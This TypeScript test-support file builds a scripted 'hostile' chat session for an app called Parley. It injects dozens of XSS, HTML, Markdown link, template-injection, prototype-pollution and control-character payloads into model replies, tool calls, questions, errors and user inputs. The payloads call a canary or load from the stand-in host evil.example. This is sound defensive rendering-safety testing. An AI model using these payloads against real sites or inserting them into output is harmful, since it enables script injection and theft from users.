import { ChannelError } from '#channels/channel';
import type { ModelRequest, ScriptedReply } from '#models/demo/reply';
import { startParley, type TestParley } from '#test/support/parley/start-parley';
import { createRecordingTool } from '#test/support/recording-tool';
import { createLatch, replyWithError, replyWithToolCalls } from '#test/support/scripted-model';
import { builtInTools } from '#tools/registry';

/** Texts call `canary` if they execute, and request `evil.example` if they load something. */
const CANARY_CALL = 'canary(1)';
const EVIL_ORIGIN = 'http://evil.example';

/** Texts that are shown unchanged, in Markdown too. */
export const HOSTILE_MARKUP: string[] = [
  `<img src=x onerror=${CANARY_CALL}>`,
  `<script>${CANARY_CALL}</script>`,
  `<ScRiPt src="${EVIL_ORIGIN}/1.js"></sCrIpT>`,
  `"><script>${CANARY_CALL}</script>`,
  `'-${CANARY_CALL}-'`,
  `</textarea><script>${CANARY_CALL}</script>`,
  `</title><svg onload=${CANARY_CALL}>`,
  `<svg onload="${CANARY_CALL}"></svg>`,
  `<svg><script>${CANARY_CALL}</script></svg>`,
  `<svg><animate onbegin=${CANARY_CALL} attributeName=x dur=1s>`,
  `<svg><use href="${EVIL_ORIGIN}/2.svg#x"/></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${CANARY_CALL}></style></mglyph></mtext></math>`,
  `<iframe src="${EVIL_ORIGIN}/3"></iframe>`,
  `<iframe srcdoc="<script>parent.${CANARY_CALL}</script>"></iframe>`,
  `<object data="${EVIL_ORIGIN}/4"></object><embed src="${EVIL_ORIGIN}/5">`,
  `<style>*{background:url(${EVIL_ORIGIN}/6)}</style>`,
  `<link rel=stylesheet href="${EVIL_ORIGIN}/7.css">`,
  `<base href="${EVIL_ORIGIN}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/8">`,
  `<form action="${EVIL_ORIGIN}/9"><input name=q autofocus onfocus=${CANARY_CALL}><button>Go</button></form>`,
  `<a href="javascript:${CANARY_CALL}">Click</a>`,
  `<div style="background:url(${EVIL_ORIGIN}/10)" onmouseover=${CANARY_CALL}>Over</div>`,
  `<details open ontoggle=${CANARY_CALL}><summary>More</summary></details>`,
  `<video src="${EVIL_ORIGIN}/11" onerror=${CANARY_CALL} autoplay><source onerror=${CANARY_CALL}></video>`,
  `<body onload=${CANARY_CALL}>`,
  `<template><script>${CANARY_CALL}</script></template>`,
  `<!-- ${CANARY_CALL} --><img src=x onerror=${CANARY_CALL}>`,
  `<!--[if IE]><script>${CANARY_CALL}</script><![endif]-->`,
  `<![CDATA[<script>${CANARY_CALL}</script>]]>`,
  `<?xml-stylesheet href="javascript:${CANARY_CALL}"?>`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY_CALL}>"></noscript>`,
  `<x-parley contenteditable onblur=${CANARY_CALL} tabindex=1>`,
  '{{constructor.constructor("canary(1)")()}}',
  '$'.concat('{canary(1)}'),
  '<%= canary(1) %>',
  'abc\u202Egnp.exe\u202C\u2066',
  '\u001b[31mred\u001b[0m\u001b]8;;http://evil.example/12\u0007',
  'W'.repeat(180),
  'constructor',
  'toString',
];

/** Markdown that would link, load or execute, or is rendered differently. */
export const HOSTILE_MARKDOWN: string[] = [
  '__proto__.polluted',
  'a\u0000b\u0007c',
  `[link](javascript:${CANARY_CALL})`,
  `[link](JaVaScRiPt:${CANARY_CALL})`,
  `[link](&#106;avascript:${CANARY_CALL})`,
  `[link](java&#10;script:${CANARY_CALL})`,
  `[link](java\u0001script:${CANARY_CALL})`,
  `[link](<java\tscript:${CANARY_CALL}>)`,
  `[link]( \u0001javascript:${CANARY_CALL} "title")`,
  `[link](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=)`,
  `[link](vbscript:${CANARY_CALL})`,
  `[link](//evil.example/13)`,
  `[link](/v1/session)`,
  `[link](\\\\evil.example\\14)`,
  `[link](blob:${EVIL_ORIGIN}/15)`,
  `<javascript:${CANARY_CALL}>`,
  `<data:text/html,<script>${CANARY_CALL}</script>>`,
  `[ref]\n\n[ref]: javascript:${CANARY_CALL}`,
  `[ref][1]\n\n[1]: <java\nscript:${CANARY_CALL}>`,
  `![img](${EVIL_ORIGIN}/16.png)`,
  `![img](data:image/svg+xml,<svg/onload=${CANARY_CALL}>)`,
  `![img](x" onerror="${CANARY_CALL})`,
  `![img][2]\n\n[2]: ${EVIL_ORIGIN}/17.png "x' onerror='${CANARY_CALL}"`,
  `[![img](${EVIL_ORIGIN}/18.png)](javascript:${CANARY_CALL})`,
  `${EVIL_ORIGIN}/19?<script>${CANARY_CALL}</script>`,
  `www.evil.example/20"onmouseover="${CANARY_CALL}`,
  `mailto:a@evil.example?subject=<img src=x onerror=${CANARY_CALL}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${CANARY_CALL}> [x](javascript:${CANARY_CALL})`,
  `| a |\n| --- |\n| <img src=x onerror=${CANARY_CALL}> |`,
  `- [ ] <input type=image src=${EVIL_ORIGIN}/21 onerror=${CANARY_CALL}>`,
  `\`\`\`html" onload="${CANARY_CALL}\n<script>${CANARY_CALL}</script>\n\`\`\``,
  `# <img src=x onerror=${CANARY_CALL}>`,
];

export const HOSTILE_TEXTS = [...HOSTILE_MARKUP, ...HOSTILE_MARKDOWN];

export const ALL_HOSTILE_TEXT = HOSTILE_TEXTS.join('\n\n');

/** Four texts per field, as a question has at most twenty fields. */
const byFour = Array.from({ length: Math.ceil(HOSTILE_TEXTS.length / 4) }, (_, n) =>
  HOSTILE_TEXTS.slice(4 * n, 4 * n + 4).join('\n'),
);
const halves = [HOSTILE_TEXTS.slice(0, HOSTILE_TEXTS.length / 2), HOSTILE_TEXTS.slice(HOSTILE_TEXTS.length / 2)];
const ask = (questions: object[], context?: string): ScriptedReply =>
  replyWithToolCalls({ name: 'ask_user_question', input: { questions, context } });

/** Uses each text as the label of an option, as its description, and as a question. */
const labels = halves.map((half, n) => ({
  question: `Which ${n}?`,
  header: half[0],
  options: half.map((label) => ({ label })),
}));
const descriptions = halves.map((half, n) => ({
  question: `What ${n}?`,
  options: half.map((description, index) => ({ label: `${index}`, description })),
}));
const fields = byFour.map((question) => ({ question, header: question }));

/** Sends each text in a message, then asks and is answered, asks and is declined, and asks again. */
function replyToTalk(turn: number): ScriptedReply {
  const text = HOSTILE_TEXTS[turn];
  const todos = (contents: string[]) => ({
    name: 'write_todos',
    input: { todos: contents.map((content) => ({ content, status: 'in_progress' })) },
  });
  if (text !== undefined) return { text, calls: [todos(turn === 0 ? HOSTILE_TEXTS : [text])] };
  const steps = [
    replyWithToolCalls(todos(HOSTILE_TEXTS), { name: 'write_line', input: { line: ALL_HOSTILE_TEXT } }),
    replyWithToolCalls({ name: 'write_line', input: { line: ALL_HOSTILE_TEXT, fail: true } }),
    ask(fields),
    ask([{ question: 'Which?' }]),
    ask(labels, HOSTILE_MARKDOWN.join('\n\n')),
  ];
  return steps[turn - HOSTILE_TEXTS.length] ?? { text: 'done' };
}

/** Replies by the first word of the message. */
const createHostileScripts = (hold: Promise<unknown>): Record<string, (turn: number) => ScriptedReply> => ({
  talk: replyToTalk,
  describe: () => ask([...descriptions, { question: 'Else?' }]),
  confirm: () =>
    replyWithToolCalls({
      name: 'confirm_action',
      input: {
        action: byFour[0],
        details: HOSTILE_MARKDOWN.join('\n\n'),
        arguments: Object.fromEntries(HOSTILE_TEXTS.map((text, n) => (n % 2 ? [text, n] : [n, text]))),
      },
    }),
  approve: () => replyWithToolCalls({ name: 'sign_line', input: { line: ALL_HOSTILE_TEXT } }),
  // Streamed in chunks; the last are held back.
  write: () => ({ text: ALL_HOSTILE_TEXT, hold, holdAfter: 40 }),
  fail: () => replyWithError(400, { message: ALL_HOSTILE_TEXT }),
  misname: (turn) =>
    turn === 0
      ? replyWithToolCalls({ name: HOSTILE_TEXTS[0] ?? '', input: {} })
      : replyWithError(400, { message: 'No.' }),
});

function createHostileScript(hold: Promise<unknown>): (request: ModelRequest) => ScriptedReply {
  const scripts = createHostileScripts(hold);
  return ({ body }) => {
    const turn = body.messages.filter(({ role }) => role === 'assistant').length;
    const [word = ''] = /\w+/.exec(JSON.stringify(body.messages[0]?.content).replace(/^.*?"text":/, '')) ?? [];
    if (turn > 0 && word !== 'talk' && word !== 'misname') throw new Error(`${word} was not taken`);
    return scripts[word]?.(turn) ?? { text: 'done' };
  };
}

/** Starts a Parley with hostile texts in everything that the model, tools and channels produce. */
export async function startHostileParley(): Promise<TestParley & { releaseReply: () => void }> {
  const { tool } = createRecordingTool();
  const latch = createLatch();
  const tools = [...builtInTools, tool, { ...tool, name: 'sign_line' }];
  const send = () => Promise.reject(new ChannelError(String(HOSTILE_TEXTS[0]), { isPermanent: true }));
  const p = await startParley({
    tools,
    senders: [{ name: 'log', send, remind: send, updateCopy: send }],
    frontMatter:
      'tools: [write_todos, write_line, { name: sign_line, requiresConfirmation: true }]\n' +
      'questions: { maxQuestions: 20, maxOptions: 50, notify: [log] }',
    script: createHostileScript(latch.hold),
  });
  return { ...p, releaseReply: latch.release };
}

/** Puts hostile texts into everything that a user can enter. */
export async function submitHostileTexts(p: TestParley): Promise<string> {
  const metadata = JSON.parse(
    JSON.stringify(Object.fromEntries(HOSTILE_TEXTS.map((text) => [text, text])))
      .slice(0, -1)
      .concat(',"__proto__":{"polluted":1}}'),
  );
  const id = await p.startConversation(`talk\n${ALL_HOSTILE_TEXT}`, { metadata });
  await p.waitForQuestion(id);
  const answers = Object.fromEntries(byFour.map((text, n) => [`q${n + 1}`, text]));
  await p.answer(id, { answers, comment: ALL_HOSTILE_TEXT }, 'question-1');
  await p.waitForStatus(id, 'waiting_for_input');
  await p.call('POST', `/v1/conversations/${id}/questions/question-2/decline`, {
    reason: ALL_HOSTILE_TEXT.slice(0, 4_000),
  });
  await p.waitForQuestion(id);
  return id;
}
